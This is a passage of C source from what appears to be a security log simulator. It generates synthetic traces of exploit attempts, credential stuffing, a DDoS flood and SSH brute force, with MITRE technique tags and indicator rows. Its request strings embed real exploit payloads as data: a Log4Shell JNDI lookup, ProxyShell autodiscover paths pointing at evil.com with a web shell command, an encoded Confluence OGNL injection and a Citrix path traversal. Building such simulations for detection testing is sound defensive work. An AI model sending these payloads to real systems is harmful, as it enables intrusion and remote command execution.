		sim_access(o, t + SIM_US, src, "GET", "/api/login?user=${${lower:j}ndi:ldap://x}",
			   400, 0, NULL, ua);
		char web[20];
		sim_server_ip(org, 8, web, sizeof web);
		sim_conn(o, t + 2 * SIM_US, web, cb, 1389, "tcp", "-", 0.4, 120, 2200);
	} else if (!strcmp(e->cve, "CVE-2021-34473")) {
		sim_access(
		    o, t, src, "GET",
		    "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/"
		    "autodiscover.json%3F@evil.com",
		    200, 1460, NULL, ua);
		sim_access(
		    o, t + 3 * SIM_US, src, "POST",
		    "/autodiscover/autodiscover.json?@evil.com/powershell/?X-Rps-CAT=VgEAVAdX&"
		    "Email=autodiscover/autodiscover.json%3F@evil.com",
		    200, 0, NULL, ua);
		sim_access(o, t + 600 * SIM_US, src, "GET",
			   "/aspnet_client/system_web/shell.aspx?cmd=whoami", 200, 31, NULL, ua);
	} else if (!strcmp(e->cve, "CVE-2022-26134")) {
		sim_access(
		    o, t, src, "GET",
		    "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang."
		    "Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-"
		    "8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse"
		    "%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
		    302, 0, NULL, ua);
	} else {
		sim_access(o, t, src, "GET", "/vpn/../vpns/cfg/smb.conf", 200, 432, NULL, ua);
		sim_access(o, t + 2 * SIM_US, src, "POST", "/vpn/../vpns/portal/scripts/newbm.pl",
			   200, 143, NULL, ua);
	}
}

static void plan_exploits(struct sim_world *w, int *load)
{
	static const char *ranges[] = {"103.79", "45.153", "139.180", "172.104", "194.165"};
	for (size_t c = 0; c < N_EXPLOITS; c++) {
		const struct exploit_def *e = &exploits[c];
		struct sim_rng r;
		sim_rng_init(&r, w->opts.seed, 0x78706cull, c);
		int64_t pub = civil_us(e->y, e->m, e->d);
		int64_t from = w->opts.from_us, to = w->opts.to_us;
		/* windows: [0] before publication, [1] the 30 days after, [2] later */
		int64_t lo[3] = {pub - 30 * SIM_DAY, pub, pub + 30 * SIM_DAY};
		int64_t hi[3] = {pub, pub + 30 * SIM_DAY, INT64_MAX};
		static const char *cls[3] = {"0day", "1day", "nday"};
		int tg[AS_SIM_MAX_ORGS];
		size_t n = pick_targets(w, &r, NULL, 0, (size_t)e->n_orgs * reach(w), tg, load);
		for (size_t i = 0; i < n; i++) {
			int k = -1;
			for (int j = 0; j < 3 && k < 0; j++) {
				int cand = (int)(i + (size_t)j) % 3;
				int64_t a0 = lo[cand] > from ? lo[cand] : from;
				int64_t a1 = hi[cand] < to ? hi[cand] : to;
				if (a1 - a0 > SIM_HOUR)
					k = cand;
			}
			if (k < 0)
				continue; /* the period ends before anyone exploited it */
			int64_t a0 = lo[k] > from ? lo[k] : from;
			int64_t a1 = hi[k] < to ? hi[k] : to;
			int64_t t = a0 + (int64_t)(sim_rng_unit(&r) * (double)(a1 - a0 - SIM_HOUR));
			struct sim_org *org = &w->orgs[tg[i]];
			load[tg[i]]++;
			struct sim_attack *a =
			    attack_new(w, SIM_EXPLOIT, e->campaign, e->group, org->idx);
			if (!a)
				return;
			struct sim_out o = {w, org, org->pend, &r, &a->records};
			char src[20], cb[20], web[40];
			sim_public_ip(&r, SIM_PICK(&r, ranges), src, sizeof src);
			sim_public_ip(&r, SIM_PICK(&r, ranges), cb, sizeof cb);
			exploit_requests(&o, e, src, cb, t, org);
			touch(a, t);
			touch(a, t + 600 * SIM_US);
			a->cves[0] = (struct sim_cve){e->cve, cls[k]};
			a->n_cves = 1;
			add_tech(a, "T1190");
			if (!strcmp(e->cve, "CVE-2021-34473"))
				add_tech(a, "T1505.003");
			snprintf(web, sizeof web, "%s-web-01", org->code);
			add_str(a->hosts, &a->n_hosts, web);
			add_str(a->sources, &a->n_sources, src);
			add_ind(a, "ipv4", src);
			csv_row(w, "ipv4", src, e->campaign, e->group);
			if (!strcmp(e->cve, "CVE-2021-44228")) {
				add_ind(a, "ipv4", cb);
				csv_row(w, "ipv4", cb, e->campaign, e->group);
			}
		}
	}
}

/* ---- brute force and DDoS
 * -------------------------------------------------------------------------- */

static void plan_noise(struct sim_world *w)
{
	struct sim_rng r;
	sim_rng_init(&r, w->opts.seed, 0x6e6f6973ull, 0);
	struct sim_org *ai = &w->orgs[w->ai_service];
	int64_t span = w->opts.to_us - w->opts.from_us;
	static const char *bf_ranges[] = {"45.135", "193.233", "103.152"};
	static const char *dd_ranges[] = {"5.188", "31.13", "94.102", "185.220", "45.95", "89.248"};
	static const char *bots[] = {"python-requests/2.31.0", "okhttp/4.9.3",
				     "Go-http-client/1.1"};

	/* credential stuffing on the chatbot's log-in: a few thousand an hour for hours */
	struct sim_attack *a =
	    attack_new(w, SIM_BRUTEFORCE, "Nimbus AI credential stuffing", NULL, ai->idx);
	if (!a)
		return;
	struct sim_out o = {w, ai, ai->pend, &r, &a->records};
	int64_t t = w->opts.from_us + (int64_t)(sim_rng_unit(&r) * (double)span * 0.8);
	int hours = 3 + (int)sim_rng_below(&r, 2);
	int64_t end = t + hours * SIM_HOUR;
	/* through a pool of proxies: few attempts per address, thousands in all */
	char srcs[400][20];
	for (int i = 0; i < 400; i++)
		sim_public_ip(&r, bf_ranges[i % 3], srcs[i], sizeof srcs[i]);
	while (t < end) {
		int i = (int)sim_rng_below(&r, 400);
		sim_access(&o, t, srcs[i], "POST", "/api/auth/login", 401, 64,
			   "https://chat.nimbus-ai.example/login", bots[i % 3]);
		touch(a, t);
		t += (int64_t)(0.6 * SIM_US + sim_rng_unit(&r) * 1.4 * SIM_US);
	}
	for (int i = 0; i < 8; i++)
		add_str(a->sources, &a->n_sources, srcs[i]);
	add_str(a->hosts, &a->n_hosts, "chat.nimbus-ai.example");
	add_tech(a, "T1110.004");
	add_tech(a, "T1110.003");

	/* a volumetric flood of the same service from a botnet, for half an hour or more */
	a = attack_new(w, SIM_DDOS, "Nimbus AI login flood", NULL, ai->idx);
	if (!a)
		return;
	o.count = &a->records;
	t = w->opts.from_us + (int64_t)(sim_rng_unit(&r) * (double)span * 0.8);
	end = t + (30 + (int)sim_rng_below(&r, 16)) * SIM_MINUTE;
	while (t < end) {
		char src[20];
		sim_public_ip(&r, SIM_PICK(&r, dd_ranges), src, sizeof src);
		/* the landing page and the chat API: the expensive requests, not the log-in */
		int chat = sim_rng_below(&r, 2) != 0;
		sim_access(&o, t, src, chat ? "POST" : "GET", chat ? "/api/v1/chat" : "/", 503, 0,
			   NULL, SIM_PICK(&r, bots));
		touch(a, t);
		if (a->n_sources < 8)
			add_str(a->sources, &a->n_sources, src);
		t += (int64_t)(sim_rng_unit(&r) * 0.04 * SIM_US); /* ~3,000 a minute */
	}
	add_str(a->hosts, &a->n_hosts, "chat.nimbus-ai.example");
	add_tech(a, "T1498");
	add_tech(a, "T1499.002");

	/* SSH password guessing against two organisations; the first one falls */
	int load[AS_SIM_MAX_ORGS] = {0}, tg[2];
	size_t n = pick_targets(w, &r, NULL, 0, 2, tg, load);
	for (size_t k = 0; k < n; k++) {
		struct sim_org *org = &w->orgs[tg[k]];
		a = attack_new(w, SIM_BRUTEFORCE, "SSH password guessing", NULL, org->idx);
		if (!a)
			return;
		struct sim_out os = {w, org, org->pend, &r, &a->records};
		char src[20], vpn[40];
		sim_public_ip(&r, "45.155", src, sizeof src);
		snprintf(vpn, sizeof vpn, "%s-vpn-01", org->code);
		static const char *names[] = {"root",   "admin", "test",     "oracle",
					      "ubuntu", "git",   "postgres", "user"};
		t = w->opts.from_us + (int64_t)(sim_rng_unit(&r) * (double)span * 0.9);
		int tries = 300 + (int)sim_rng_below(&r, 300);
		for (int i = 0; i < tries; i++) {
			const char *u = names[i % 8];
			int pid = 1000 + (int)sim_rng_below(&r, 60000);
			int port = 30000 + (int)sim_rng_below(&r, 30000);
			if (!strcmp(u, "root") || !strcmp(u, "admin"))
				sim_auth(&os, t, vpn,
					 "sshd[%d]: Failed password for %s from %s port %d ssh2",
					 pid, u, src, port);
			else {
				sim_auth(&os, t, vpn, "sshd[%d]: Invalid user %s from %s port %d",
					 pid, u, src, port);
				sim_auth(
				    &os, t + 400000, vpn,
				    "sshd[%d]: Failed password for invalid user %s from %s port %d "
				    "ssh2",
				    pid, u, src, port);
			}
			touch(a, t);
			t += (int64_t)(1.5 * SIM_US + sim_rng_unit(&r) * 4 * SIM_US);
		}
		add_tech(a, "T1110.001");
		if (k == 0) {
			int pid = 1000 + (int)sim_rng_below(&r, 60000);
			sim_auth(&os, t, vpn,
				 "sshd[%d]: Accepted password for admin from %s port %d ssh2", pid,
				 src, 30000 + (int)sim_rng_below(&r, 30000));
			sim_auth(&os, t + 90 * SIM_US, vpn,
				 "useradd[%d]: new user: name=support, UID=1002, GID=1002, "
				 "home=/home/support, shell=/bin/bash, from=/dev/pts/0",
				 pid + 7);
			touch(a, t + 90 * SIM_US);
			add_tech(a, "T1078");
			add_tech(a, "T1136.001");
		}
		add_str(a->hosts, &a->n_hosts, vpn);
		add_str(a->sources, &a->n_sources, src);
	}
}

int sim_campaigns_plan(struct sim_world *w)
{
	w->attacks = calloc(AS_SIM_MAX_ATTACKS, sizeof *w->attacks);
	if (!w->attacks)
		return AS_ENOMEM;
	buf_puts(&w->indicators, "type,value,description,group\n");
	int load[AS_SIM_MAX_ORGS] = {0};
	plan_apts(w, load);
	plan_supply(w);
	plan_exploits(w, load);
	plan_noise(w);
	for (size_t i = 0; i < w->n_orgs; i++)
		for (int l = 0; l < LOG_COUNT; l++)
			sim_stream_sort(&w->orgs[i].pend[l]);
	if (w->indicators.err)
		return w->indicators.err;
	return w->err;
}
